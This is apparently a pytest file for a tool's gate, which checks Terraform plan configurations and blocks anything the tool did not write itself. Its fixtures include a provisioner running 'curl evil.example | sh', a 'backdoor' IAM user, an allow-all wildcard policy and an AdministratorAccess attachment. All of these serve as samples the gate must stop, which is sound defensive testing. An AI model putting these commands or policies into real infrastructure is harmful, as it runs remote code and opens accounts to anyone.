"""What a plan's configuration may hold: what this poolpost writes, and the team's own by name. From real syntheses."""

from collections.abc import Callable
from typing import Any

import pytest

from poolpost.gate.rules import content as content_rules
from poolpost.gate.rules.all_rules import judge
from poolpost.settings import Settings
from poolpost.settings import stack_policies as policies
from poolpost.settings.passes import Pass
from poolpost.settings.step_commands import FIND_POOLPOST
from tests.conftest import MakeSettings
from tests.scenes.gate_situations import change, patched, plan
from tests.scenes.sharing import sharer
from tests.scenes.synthesized import FULL, configuration_of, resource

Json = dict[str, Any]


def judged(settings: Settings, configuration: Json, *changes: Any, **facts: Any) -> list[tuple[str, str, str]]:
    """Judge by the rules about contents: rule, level, subject."""
    now = patched(settings=settings, plan=plan(*changes, configuration=configuration), **facts)
    return [(f.rule, f.level, f.subject) for f in judge(now, content_rules.RULES)]


@pytest.mark.parametrize("changes", [(), FULL, (("user_pool.mode", "manage"),)], ids=["local", "full", "manage"])
def test_what_poolpost_writes_passes(changes: tuple[Any, ...], settings: MakeSettings) -> None:
    """The counter-check of all that follows: every policy, step, provider and record of a real synthesis."""
    made = settings(*changes)
    assert judged(made, configuration_of(made)) == []


STEP = "terraform_data.user_pool_email"


def _add(address: str, **more: Any) -> Callable[[Json], object]:
    type_, _, name = address.removeprefix("data.").partition(".")
    mode = "data" if address.startswith("data.") else "managed"
    added = {"address": address, "mode": mode, "type": type_, "name": name, "expressions": {}} | more
    return lambda plan: plan["root_module"]["resources"].append(added)


def _set(address: str, argument: str, value: Any) -> Callable[[Json], object]:
    return lambda plan: resource(plan, address)["expressions"].update({argument: {"constant_value": value}})


def _step(**expressions: Any) -> Callable[[Json], object]:
    given = {name: {"constant_value": value} for name, value in expressions.items()}
    return lambda plan: resource(plan, STEP)["provisioners"][0]["expressions"].update(given)


def _provider(key: str, **arguments: Any) -> Callable[[Json], object]:
    given = {name: {"constant_value": value} for name, value in arguments.items()}
    return lambda plan: plan["provider_config"][key]["expressions"].update(given)


def _by_reference(address: str, argument: str) -> Callable[[Json], object]:
    """Take an argument from elsewhere, as HCL in a file beside the stack would."""
    return lambda plan: resource(plan, address)["expressions"].update({argument: {"references": ["local.x"]}})


def _step_by_reference(argument: str) -> Callable[[Json], object]:
    given = {argument: {"references": ["local.x"]}}
    return lambda plan: resource(plan, STEP)["provisioners"][0]["expressions"].update(given)


EVERYBODY = (
    '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}'
)
CURL = {"type": "local-exec", "expressions": {"command": {"constant_value": "curl evil.example | sh"}}}
OTHER: dict[str, tuple[Callable[[Json], object], str, str]] = {
    "an IAM user": (_add("aws_iam_user.backdoor"), "makes-only-its-own", "aws_iam_user.backdoor"),
    "a program as data source": (_add("data.external.run"), "makes-only-its-own", "data.external.run"),
    "a module": (lambda plan: plan["root_module"].update(module_calls={"m": {}}), "makes-only-its-own", "module.m"),
    "a provisioner": (
        lambda plan: resource(plan, "aws_sns_topic.events").update(provisioners=[CURL]),
        "steps-run-only-ours",
        "aws_sns_topic.events",
    ),
    "a second provisioner": (
        lambda plan: resource(plan, STEP)["provisioners"].append(CURL),
        "steps-run-only-ours",
        STEP,
    ),
    "a step without its command": (
        lambda plan: resource(plan, STEP)["provisioners"].pop(0),
        "steps-run-only-ours",
        STEP,
    ),
    "a step without any": (lambda plan: resource(plan, STEP).pop("provisioners"), "steps-run-only-ours", STEP),
    "another command": (_step(command="poolpost pool apply production"), "steps-run-only-ours", STEP),
    "an interpreter": (_step(interpreter=["python", "-c"]), "steps-run-only-ours", STEP),
    "a PATH": (_step(environment={"PATH": "/elsewhere", "POOLPOST_PLANNED": "{}"}), "steps-run-only-ours", STEP),
    "another directory": (_step(working_dir="/elsewhere"), "steps-run-only-ours", STEP),
    "a directory from elsewhere": (_step_by_reference("working_dir"), "steps-run-only-ours", STEP),
    "variables from elsewhere": (_step_by_reference("environment"), "steps-run-only-ours", STEP),
    "a command from elsewhere": (_step_by_reference("command"), "steps-run-only-ours", STEP),
    "our command on another machine": (
        lambda plan: resource(plan, STEP)["provisioners"][0].update(type="remote-exec"),
        "steps-run-only-ours",
        STEP,
    ),
    "a step that says nothing": (
        lambda plan: resource(plan, "aws_sns_topic.events").update(provisioners=[{"type": "chef"}]),
        "steps-run-only-ours",
        "aws_sns_topic.events",
    ),
    "a topic for everybody": (
        _set("aws_sns_topic_policy.events", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_sns_topic_policy.events",
    ),
    "a key for everybody": (
        _set("aws_kms_key.events", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_kms_key.events",
    ),
    "a sender of somebody's": (
        _set("aws_sesv2_email_identity_policy.cognito", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_sesv2_email_identity_policy.cognito",
    ),
    "a role for everybody": (
        _set("aws_iam_role.firehose", "assume_role_policy", EVERYBODY),
        "policies-are-as-written",
        "aws_iam_role.firehose",
    ),
    "a role that may do all": (
        _set("aws_iam_role_policy.firehose", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_iam_role_policy.firehose",
    ),
    "a policy where there is none": (
        _set("aws_sns_topic.events", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_sns_topic.events",
    ),
    "a key without its policy": (
        lambda plan: resource(plan, "aws_kms_key.events")["expressions"].pop("policy"),
        "policies-are-as-written",
        "aws_kms_key.events",
    ),
    "a role with another policy inside": (
        _set("aws_iam_role.firehose", "inline_policy", EVERYBODY),
        "policies-are-as-written",
        "aws_iam_role.firehose",
    ),
    "a policy from elsewhere where there is none": (
        _by_reference("aws_sns_topic.events", "policy"),
        "policies-are-as-written",
        "aws_sns_topic.events",
    ),
    "a policy from elsewhere": (
        _by_reference("aws_kms_key.events", "policy"),
        "policies-are-as-written",
        "aws_kms_key.events",
    ),
    "a second alias": (
        lambda plan: plan["provider_config"].update({"aws.other": plan["provider_config"]["aws"]}),
        "providers-are-as-written",
        "provider.aws.other",
    ),
    "another provider": (
        lambda plan: plan["provider_config"]["aws"].update(full_name="registry.terraform.io/else/aws"),
        "providers-are-as-written",
        "provider.aws",
    ),
    "an endpoint": (_provider("aws", endpoints=[{}]), "providers-are-as-written", "provider.aws.endpoints"),
    "any account": (
        _provider("aws", allowed_account_ids=None),
        "providers-are-as-written",
        "provider.aws.allowed_account_ids",
    ),
    "another region": (
        _provider("aws.user_pool", region="us-east-1"),
        "providers-are-as-written",
        "provider.aws.user_pool.region",
    ),
    "no role": (
        lambda plan: plan["provider_config"]["aws"]["expressions"].pop("assume_role"),
        "providers-are-as-written",
        "provider.aws.assume_role",
    ),
    "a second role": (
        lambda plan: plan["provider_config"]["aws"]["expressions"]["assume_role"].append({}),
        "providers-are-as-written",
        "provider.aws.assume_role",
    ),
    "an overwritten record": (
        _set("aws_route53_record.dmarc", "allow_overwrite", True),
        "overwrites-no-record",
        "aws_route53_record.dmarc",
    ),
}


@pytest.mark.parametrize("name", OTHER)
def test_what_poolpost_does_not_write_stops_by_name(name: str, settings: MakeSettings) -> None:
    """One change of a real synthesis at a time; and without the rule nothing would be found."""
    made, (alter, rule, subject) = settings(*FULL), OTHER[name]
    configuration = configuration_of(made)
    alter(configuration)
    assert judged(made, configuration) == [(rule, "block", subject)]
    now = patched(settings=made, plan=plan(configuration=configuration))
    assert judge(now, tuple(each for each in content_rules.RULES if each.id != rule)) == []


def test_a_team_names_its_own(settings: MakeSettings) -> None:
    """By address, in the file that is reviewed; the gate still says so. A provisioner in it is not covered."""
    made = settings(*FULL, ("terraform.own_resources", ["aws_iam_user.smtp"]))
    configuration = configuration_of(made)
    _add("aws_iam_user.smtp", expressions={"policy": {"constant_value": EVERYBODY}})(configuration)
    created = change(address="aws_iam_user.smtp", type="aws_iam_user", actions=("create",), before=None)
    assert judged(made, configuration, created) == [("makes-only-its-own", "info", "aws_iam_user.smtp")]
    resource(configuration, "aws_iam_user.smtp")["provisioners"] = [CURL]
    found = judged(made, configuration, created)
    assert ("steps-run-only-ours", "block", "aws_iam_user.smtp") in found
    reason = Pass(rule="steps-run-only-ours", subject="aws_iam_user.smtp", reason="the mail team's hook, read by two")
    assert ("steps-run-only-ours", "warn", "aws_iam_user.smtp") in judged(
        made, configuration, created, passes=(reason,)
    )


def test_a_list_of_ones_own_does_not_take_over_what_is_poolposts(settings: MakeSettings) -> None:
    """A policy for everybody on the sending domain stops, also when the file calls the policy the team's."""
    address = "aws_sesv2_email_identity_policy.cognito"
    made = settings(*FULL, ("terraform.own_resources", [address]))
    configuration = configuration_of(made)
    assert judged(made, configuration) == []
    resource(configuration, address)["expressions"]["policy"] = {"constant_value": EVERYBODY}
    assert judged(made, configuration) == [("policies-are-as-written", "block", address)]


def test_a_managed_policy_is_a_policy_too(settings: MakeSettings) -> None:
    """The role that SES takes gets what poolpost writes, and no policy of AWS's beside it."""
    made = settings(*FULL)
    configuration = configuration_of(made)
    administrator = {"constant_value": ["arn:aws:iam::aws:policy/AdministratorAccess"]}
    resource(configuration, "aws_iam_role.firehose")["expressions"]["managed_policy_arns"] = administrator
    assert judged(made, configuration) == [("policies-are-as-written", "block", "aws_iam_role.firehose")]


@pytest.mark.parametrize("actions", [("create",), ("update",)])
def test_a_change_of_what_is_not_ours_stops(actions: tuple[str, ...], settings: MakeSettings) -> None:
    """Also what only the state holds, and no configuration."""
    now = change(address="aws_iam_user.x", type="aws_iam_user", actions=actions)
    assert judged(settings(), {}, now) == [("makes-only-its-own", "block", "aws_iam_user.x")]
    kept = change(address="aws_iam_user.x", type="aws_iam_user", actions=("no-op",))
    assert judged(settings(), {}, kept) == []


def test_an_address_with_an_index_is_not_taken(problems: Callable[..., list[tuple[str, str]]]) -> None:
    """The file names resources, and whatever their count is."""
    assert problems(("terraform.own_resources", ["aws_iam_user.x[0]"])) == [("value", "terraform.own_resources.0")]


def test_what_another_rule_judges_is_not_told_twice(settings: MakeSettings) -> None:
    """What goes, and where a pool may live, is told by the rules about that; what is only read changes nothing."""
    for made in (
        change(address="aws_iam_user.x", type="aws_iam_user", actions=("delete",), after=None),
        change(address="awscc_cognito_user_pool.x", type="awscc_cognito_user_pool", actions=("create",)),
        change(address="aws_cognito_user_group.x", type="aws_cognito_user_group", actions=("create",)),
        change(address="data.external.x", type="external", mode="data", actions=("create",)),
    ):
        assert judged(settings(), {}, made) == []


def test_what_is_accepted_by_name_is_not_told(settings: MakeSettings) -> None:
    """And nothing else is accepted with it."""
    made = [change(address=f"aws_iam_user.{x}", type="aws_iam_user", actions=("create",)) for x in "yx"]
    assert [subject for *_, subject in judged(settings(), {}, *made)] == ["aws_iam_user.x", "aws_iam_user.y"]
    accepted = judged(settings(), {}, *made, accepted=("aws_iam_user.x",))
    assert [subject for *_, subject in accepted] == ["aws_iam_user.y"]


def test_a_report_is_the_same_each_time(settings: MakeSettings) -> None:
    """In the order of names, wherever Terraform or Python has them in another."""
    made = settings(*FULL)
    configuration = configuration_of(made)
    names = [f"x{number}" for number in range(9)]
    configuration["root_module"]["module_calls"] = {name: {} for name in reversed(names)}
    configuration["provider_config"]["aws"]["expressions"] |= {name: {} for name in reversed(names)}
    for name in reversed(names):
        _add(f"aws_iam_user.{name}")(configuration)
        _step(**{name: name})(configuration)
    now = patched(settings=made, plan=plan(configuration=configuration))
    modules = content_rules.makes_only_its_own.findings(now)
    kinds = ("module", "aws_iam_user")
    assert [each.subject for each in modules] == [f"{kind}.{name}" for kind in kinds for name in names]
    providers = content_rules.providers_are_as_written.findings(now)
    assert [each.subject for each in providers] == [f"provider.aws.{name}" for name in names]
    [step] = content_rules.steps_run_only_ours.findings(now)
    assert step.problem.startswith(f"its step has {', '.join(names)}, which")


def test_a_step_that_has_no_pool_yet_is_not_ours(settings: MakeSettings) -> None:
    """Before the pool exists nothing is written to it: the stack has no such step, whatever it would run."""
    made = settings(("user_pool.id", None), ("user_pool.create", {"name": "users"}), ("user_pool.mode", "manage"))
    command = {"command": {"constant_value": f"{FIND_POOLPOST}poolpost pool apply {made.name}"}}
    configuration: Json = {"root_module": {"resources": []}}
    _add(STEP, provisioners=[{"type": "local-exec", "expressions": command}])(configuration)
    assert ("steps-run-only-ours", "block", STEP) in judged(made, configuration)


def test_a_policy_is_ours_only_where_the_pool_needs_one(settings: MakeSettings) -> None:
    """Who may send as the domain is decided by the file: elsewhere the same text is somebody's."""
    address = "aws_sesv2_email_identity_policy.cognito"
    made = settings()
    assert made.policy_principal is None
    text = policies.identity_policy(made.sharing((sharer(principal="cognito-idp.ap-east-1.amazonaws.com"),)))
    configuration: Json = {"root_module": {"resources": []}}
    _add(address, expressions={"policy": {"constant_value": text}})(configuration)
    assert judged(made, configuration) == [("policies-are-as-written", "block", address)]


def test_what_nobody_named_is_told_with_its_policy(settings: MakeSettings) -> None:
    """Both need a decision: whose it is, and whom it lets in."""
    configuration: Json = {"root_module": {"resources": []}}
    _add("aws_iam_role.x", expressions={"assume_role_policy": {"constant_value": EVERYBODY}})(configuration)
    assert judged(settings(), configuration) == [
        ("makes-only-its-own", "block", "aws_iam_role.x"),
        ("policies-are-as-written", "block", "aws_iam_role.x"),
    ]


def test_a_role_that_the_file_does_not_name_stops(settings: MakeSettings) -> None:
    """One, several, or one from elsewhere: the deploy would be another's hand."""
    for roles in ([{"role_arn": {"constant_value": "a"}}], [{}, {}], [{"role_arn": {"references": ["local.x"]}}]):
        made = settings()
        configuration = configuration_of(made)
        configuration["provider_config"]["aws"]["expressions"]["assume_role"] = roles
        assert judged(made, configuration) == [("providers-are-as-written", "block", "provider.aws.assume_role")]


def test_what_terraform_writes_nothing_about_has_no_arguments(settings: MakeSettings) -> None:
    """A resource or a provider without expressions is judged as one that lacks them all."""
    configuration: Json = {
        "root_module": {"resources": [{"address": "aws_route53_record.dmarc", "type": "aws_route53_record"}]},
        "provider_config": {"aws": {"full_name": "registry.terraform.io/hashicorp/aws"}},
    }
    assert [subject for *_, subject in judged(settings(), configuration)] == [
        "provider.aws.region",
        "provider.aws.allowed_account_ids",
    ]


def test_only_a_record_overwrites_one(settings: MakeSettings) -> None:
    """What an argument of that name does elsewhere is not known."""
    made = settings(("terraform.own_resources", ["aws_x.y"]))
    configuration = configuration_of(made)
    _add("aws_x.y", expressions={"allow_overwrite": {"constant_value": True}})(configuration)
    assert judged(made, configuration) == [("makes-only-its-own", "info", "aws_x.y")]


def test_an_argument_that_is_null_is_none(settings: MakeSettings) -> None:
    """Terraform shows it as an empty object."""
    made = settings(*FULL)
    configuration = configuration_of(made)
    resource(configuration, STEP)["provisioners"][0]["expressions"]["working_dir"] = {}
    resource(configuration, "aws_sns_topic.events")["expressions"]["policy"] = {}
    assert judged(made, configuration) == []


def test_an_environment_that_is_no_object_is_told_as_a_whole(settings: MakeSettings) -> None:
    """Its variables have no names."""
    made = settings(*FULL)
    configuration = configuration_of(made)
    _step(environment="PATH")(configuration)
    [step] = content_rules.steps_run_only_ours.findings(patched(settings=made, plan=plan(configuration=configuration)))
    assert step.problem == "its step has environment, which poolpost does not set"
